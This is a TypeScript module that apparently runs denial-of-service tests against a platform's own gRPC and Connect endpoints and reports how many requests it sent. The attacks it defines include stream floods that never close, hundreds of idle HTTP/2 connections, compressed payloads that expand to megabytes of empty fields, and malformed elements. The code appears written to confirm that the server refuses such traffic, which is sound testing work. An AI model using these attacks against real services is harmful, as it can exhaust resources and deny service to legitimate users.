// A process that attacks the doors of a platform, in one of several ways, and tells how many requests it has sent.
import { setTimeout as pause } from 'node:timers/promises';
import { answerTasks } from '../kit/answer-tasks.ts';
import { connectHttp2, openStream } from './frames.ts';
import { emptyFields, sendByHttp, sendGrpc, updateConfigPath } from './messages.ts';

export interface Target {
  /** `http://host:port` */
  readonly grpc: string;
  readonly rest: string;
  readonly authorization: string;
}

export interface Attack {
  readonly name: AttackName;
  readonly target: Target;
}

export type AttackName = keyof typeof attacks;

/** Each ends within a few seconds and gives the number of requests, or of connections. */
export const attacks = {
  '120,000 streams that never end': openStreams,
  '500 silent connections': stayConnected,
  '4 MiB of empty fields in 4 KB, gRPC': ({ grpc }: Target) => repeat(20, () => sendGrpc(grpc, fourMebibytes, { isGzip: true })),
  '1 MiB of empty fields, Connect': ({ rest }: Target) => repeat(20, () => sendByHttp(rest, oneMebibyte, { type })),
  '4 MiB of empty fields in 4 KB, gRPC, with credentials': ({ grpc, authorization }: Target) =>
    repeat(20, () => sendGrpc(grpc, fourMebibytes, { isGzip: true, authorization })),
  '1 MiB of empty fields, Connect, with credentials': ({ rest, authorization }: Target) =>
    repeat(20, () => sendByHttp(rest, oneMebibyte, { type, authorization })),
  '9,500 broken elements, gRPC, with credentials': ({ grpc, authorization }: Target) =>
    repeat(20, () => sendGrpc(grpc, emptyFields(19_000), { authorization })),
} as const;

const type = 'application/proto';
const fourMebibytes = emptyFields(4 * 1024 * 1024 - 2);
const oneMebibyte = emptyFields(1024 * 1024);
const holdMs = 2_000;

async function repeat(times: number, send: () => Promise<unknown>): Promise<number> {
  await Promise.all(Array.from({ length: times }, () => send().catch(() => undefined))); // to be refused is what is asked for
  return times;
}

async function openStreams({ grpc }: Target): Promise<number> {
  const { hostname, port } = new URL(grpc);
  const streams = Array.from({ length: 10_000 }, (_, index) => openStream(2 * index + 1, updateConfigPath));
  const sockets = Array.from({ length: 12 }, () => connectHttp2(hostname, Number(port)));
  for (const socket of sockets) socket.resume().write(Buffer.concat(streams));
  await pause(holdMs);
  for (const socket of sockets) socket.destroy();
  return sockets.length * streams.length;
}

async function stayConnected({ grpc }: Target): Promise<number> {
  const { hostname, port } = new URL(grpc);
  const sockets = Array.from({ length: 500 }, () => connectHttp2(hostname, Number(port)));
  await pause(holdMs);
  for (const socket of sockets) socket.destroy();
  return sockets.length;
}

answerTasks<Attack, number>(({ name, target }) => attacks[name](target));
